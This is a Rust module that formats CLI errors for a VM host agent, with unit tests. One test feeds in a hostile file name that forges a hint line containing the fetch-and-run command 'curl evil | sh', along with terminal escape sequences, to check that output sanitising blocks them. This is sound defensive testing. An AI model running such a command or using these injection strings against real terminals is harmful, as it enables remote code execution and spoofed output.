//! How every error is printed: what happened, to which object, what to do next.

mod code;
mod convert;

use std::fmt::Write as _;
use std::path::Path;

use serde_json::{Value, json};

pub use self::code::Code;
use super::exit::Exit;
use crate::doctor::{self, HostReport, Verdict};
use crate::printable::{printable, printable_code, printable_lines};
use crate::service::{Position, SourceLocation};
use crate::shell::quoted;

/// An error as it is printed. Boxed, so that a `Result` stays small.
#[derive(Debug)]
pub struct CliError(Box<Details>);

#[derive(Debug)]
struct Details {
    code: Code,
    exit: Exit,
    what: String,
    place: Option<(String, Option<Position>)>,
    snippet: Option<String>,
    causes: Vec<String>,
    hint: Option<String>,
    logs: Vec<String>,
    tails: Vec<(String, Vec<String>)>,
}

impl CliError {
    /// `what` happened.
    pub fn new(code: Code, what: impl Into<String>) -> Self {
        Self(Box::new(Details {
            code,
            exit: code.row().1,
            what: what.into(),
            place: None,
            snippet: None,
            causes: Vec::new(),
            hint: None,
            logs: Vec::new(),
            tails: Vec::new(),
        }))
    }

    /// An error with the message and the sources of `error`.
    pub fn chain(code: Code, error: &dyn std::error::Error) -> Self {
        let mut this = Self::new(code, error.to_string());
        this.0.causes = sources(error);
        this
    }

    /// Replaces the class.
    #[must_use]
    pub fn coded(mut self, code: Code) -> Self {
        self.0.code = code;
        self
    }

    /// Replaces the exit code of the class.
    #[must_use]
    pub fn exit_with(mut self, exit: Exit) -> Self {
        self.0.exit = exit;
        self
    }

    /// Appends a cause.
    #[must_use]
    pub fn cause(mut self, cause: impl Into<String>) -> Self {
        self.0.causes.push(cause.into());
        self
    }

    /// The exact command, or change, that helps the user.
    #[must_use]
    pub fn hint(mut self, hint: impl Into<String>) -> Self {
        self.0.hint = Some(hint.into());
        self
    }

    /// Names the file and the line of the fault.
    #[must_use]
    pub fn at(mut self, place: &SourceLocation) -> Self {
        self.0.place = Some((place.file.display().to_string(), Some(place.position)));
        self
    }

    /// Where the user can read more: a command or a path.
    #[must_use]
    pub fn logs(mut self, logs: impl Into<String>) -> Self {
        self.0.logs.push(logs.into());
        self
    }

    /// The last lines of a log, under the title `title`.
    #[must_use]
    pub fn tail(mut self, title: impl Into<String>, lines: Vec<String>) -> Self {
        if !lines.is_empty() {
            self.0.tails.push((title.into(), lines));
        }
        self
    }

    /// Why the machine of `report` cannot run `service`.
    pub fn host(report: &HostReport, service: &Path) -> Self {
        let (code, what) = match report.verdict {
            Verdict::NoDevice => (Code::NoKvm, "this host cannot run guests: no /dev/kvm"),
            Verdict::NoPermission => (Code::KvmDenied, "no permission to open /dev/kvm"),
            Verdict::Usable | Verdict::CannotRunKernel => (
                Code::KvmUnusable,
                "this host cannot run guests: /dev/kvm cannot run an unmodified kernel",
            ),
            Verdict::NoMemory => (Code::HostFull, "not enough free memory to run guests"),
            Verdict::NoDisk => (Code::HostFull, "not enough free disk space to run guests"),
        };
        let mut error = Self::new(code, what);
        if let Some(check) = report.failure() {
            error.0.causes.push(check.text.clone());
            let hint = check.hint.as_deref();
            error.0.hint = hint.map(|hint| hint.replace(doctor::SERVICE, &quoted(service)));
        }
        error.logs("host-agent doctor")
    }

    /// The host does not give VMM processes every layer of the sandbox.
    pub fn sandbox(report: &HostReport) -> Self {
        let mut error = Self::new(Code::Sandbox, "the sandbox of guests would be incomplete");
        if let Some(check) = report.sandbox_check() {
            error.0.causes.push(check.text.clone());
            error.0.hint.clone_from(&check.hint);
        }
        error.logs("host-agent doctor")
    }

    /// The exit code of the command.
    pub fn exit(&self) -> Exit {
        self.0.exit
    }

    /// The class.
    pub fn code(&self) -> Code {
        self.0.code
    }

    /// What happened, in one line.
    pub fn what(&self) -> &str {
        &self.0.what
    }

    /// The hint, if there is one.
    pub fn hint_text(&self) -> Option<&str> {
        self.0.hint.as_deref()
    }

    /// As text, without a newline at the end. Text from files and guests cannot
    /// send control sequences to the terminal or forge a line.
    pub fn human(&self, color: bool) -> String {
        let (red, dim, off) = if color {
            ("\u{1b}[1;31m", "\u{1b}[2m", "\u{1b}[0m")
        } else {
            ("", "", "")
        };
        let mut text = format!("{red}error[{}]{off}: ", self.0.code.name());
        if let Some((file, position)) = &self.0.place {
            text.push_str(&printable(file));
            if let Some(Position { line, column }) = position {
                let _ = write!(text, ":{line}:{column}");
            }
            text.push_str(": ");
        }
        text.push_str(&printable(&self.0.what));
        if let (Some(snippet), Some((_, Some(place)))) = (&self.0.snippet, &self.0.place) {
            let snippet = printable_code(snippet);
            let number = place.line.to_string();
            let _ = write!(text, "\n  {dim}{number} |{off} {snippet}");
            // The snippet of a long line may end before the column.
            if place.column <= snippet.chars().count() {
                let pad: String = snippet
                    .chars()
                    .take(place.column - 1)
                    .map(|c| if c == '\t' { '\t' } else { ' ' })
                    .collect();
                let _ = write!(
                    text,
                    "\n  {dim}{} |{off} {pad}{red}^{off}",
                    " ".repeat(number.len())
                );
            }
        }
        for cause in &self.0.causes {
            line(&mut text, "cause", cause);
        }
        for (title, lines) in &self.0.tails {
            line(&mut text, "last", title);
            for entry in lines {
                let _ = write!(text, "\n    {dim}|{off} {}", printable(entry));
            }
        }
        if let Some(hint) = &self.0.hint {
            line(&mut text, "hint", hint);
        }
        for logs in &self.0.logs {
            line(&mut text, "logs", logs);
        }
        text
    }

    /// Schema `host-agent.error/1`.
    pub fn json(&self) -> Value {
        let mut value = json!({
            "schema": "host-agent.error/1",
            "code": self.0.code.name(),
            "exit_code": self.0.exit.code(),
            "error": self.0.what,
            "causes": self.0.causes,
            "hint": self.0.hint,
            "logs": self.0.logs,
        });
        if let Some((file, position)) = &self.0.place {
            value["file"] = json!(file);
            if let Some(Position { line, column }) = position {
                value["line"] = json!(line);
                value["column"] = json!(column);
            }
        }
        if !self.0.tails.is_empty() {
            let tails = self.0.tails.iter();
            value["last"] = tails
                .map(|(title, lines)| json!({"title": title, "lines": lines}))
                .collect();
        }
        value
    }
}

fn line(text: &mut String, name: &str, value: &str) {
    let value = printable_lines(value).replace('\n', "\n         ");
    let _ = write!(text, "\n  {name:<6} {value}");
}

/// The sources of `error`, outermost first.
pub fn sources(error: &dyn std::error::Error) -> Vec<String> {
    std::iter::successors(error.source(), |error| error.source())
        .map(ToString::to_string)
        .collect()
}

#[cfg(test)]
mod tests {
    use std::io::ErrorKind;

    use super::*;
    use crate::api::client::ClientError;
    use crate::service::ServiceError;

    #[test]
    fn an_error_in_a_file_shows_position_line_and_hint() {
        let text = "<a>\n\t<b c='1'/>\n</a>";
        let offset = text.find("c=").unwrap();
        let error = ServiceError::at(Path::new("s.csdef"), text, offset, "c is not known")
            .with_hint("write d");
        let error = CliError::from(error);
        assert_eq!(
            error.human(false),
            "error[HA-0101]: s.csdef:2:5: c is not known\n  \
             2 | \t<b c='1'/>\n    | \t   ^\n  hint   write d"
        );
        assert_eq!(error.exit(), Exit::Invalid);
        let value = error.json();
        assert_eq!((&value["line"], &value["column"]), (&json!(2), &json!(5)));
        assert_eq!(value["exit_code"], 3);
    }

    #[test]
    fn the_errno_of_a_file_decides_the_exit_code() {
        let path = Path::new("x");
        let ends = |error: ServiceError| {
            let error = CliError::from(error);
            (error.code(), error.exit())
        };
        for (kind, exit) in [
            (ErrorKind::NotFound, Exit::NotFound),
            (ErrorKind::NotADirectory, Exit::NotFound),
            (ErrorKind::PermissionDenied, Exit::Permission),
            (ErrorKind::ReadOnlyFilesystem, Exit::Permission),
            (ErrorKind::InvalidData, Exit::Invalid),
            (ErrorKind::UnexpectedEof, Exit::Invalid),
            (ErrorKind::Other, Exit::Unclassified),
        ] {
            let read = ServiceError::io(path, "cannot read", kind.into());
            assert_eq!(ends(read), (Code::ServiceFile, exit), "{kind}");
            let written = ServiceError::output(path, "cannot write", kind.into());
            assert_eq!(ends(written), (Code::Output, exit), "{kind}");
        }
        let full = ServiceError::output(path, "cannot write", ErrorKind::StorageFull.into());
        assert_eq!(ends(full), (Code::HostFull, Exit::Host));
        assert_eq!(
            ends(ServiceError::new(path, "is wrong")),
            (Code::Service, Exit::Invalid)
        );
    }

    #[test]
    fn a_hostile_file_cannot_drive_the_terminal_or_forge_a_line() {
        let text = "<a>\u{1b}]0;title\u{7}\u{9b}2J</a>";
        let name = Path::new("x\n  hint   curl evil | sh.csdef");
        let error =
            ServiceError::at(name, text, 3, "no\r\u{1b}[1A").with_hint("a\n  hint   b\u{1b}[8m");
        let error = CliError::from(error)
            .cause("c\n  hint   d\u{8}")
            .tail("t\u{1b}[2J", vec!["e\u{1b}[2J".into()])
            .logs("l\u{1b}[2J");
        let shown = error.human(false);
        assert!(
            !shown.contains(|c: char| c.is_control() && c != '\n'),
            "{shown:?}"
        );
        let hints = shown.lines().filter(|line| line.starts_with("  hint"));
        assert_eq!(hints.count(), 1, "{shown}");
        // JSON keeps the original text.
        assert_eq!(error.json()["hint"], "a\n  hint   b\u{1b}[8m");
    }

    #[test]
    fn an_error_prints_causes_tails_hint_and_logs() {
        let source = std::io::Error::from(ErrorKind::NotFound);
        let error = CliError::from(ServiceError::io(Path::new("x"), "cannot open", source));
        assert_eq!(error.exit(), Exit::NotFound);
        let error = CliError::new(Code::Boot, "Cache_IN_0 did not boot")
            .cause("kernel panic")
            .tail("serial console", vec!["a".into(), "b".into()])
            .hint("host-agent run X --keep")
            .logs("/tmp/serial.log");
        assert_eq!(
            error.human(false),
            "error[HA-0301]: Cache_IN_0 did not boot\n  cause  kernel panic\n  \
             last   serial console\n    | a\n    | b\n  hint   host-agent run X --keep\n  \
             logs   /tmp/serial.log"
        );
    }

    #[test]
    fn an_unknown_instance_is_answered_with_the_running_ones() {
        let error = CliError::from(ClientError::NotFound {
            name: "A_IN_0".into(),
            running: vec!["12345678/B_IN_0".into()],
        });
        assert_eq!(error.exit(), Exit::NotFound);
        assert!(error.human(false).contains("running: 12345678/B_IN_0"));
    }

    #[test]
    fn an_unreadable_runtime_directory_is_a_permission_error() {
        let error = CliError::from(ClientError::List {
            directory: "/run/x".into(),
            source: ErrorKind::PermissionDenied.into(),
        });
        assert_eq!(error.exit(), Exit::Permission);
        assert!(error.hint_text().unwrap().contains("XDG_RUNTIME_DIR"));
    }
}
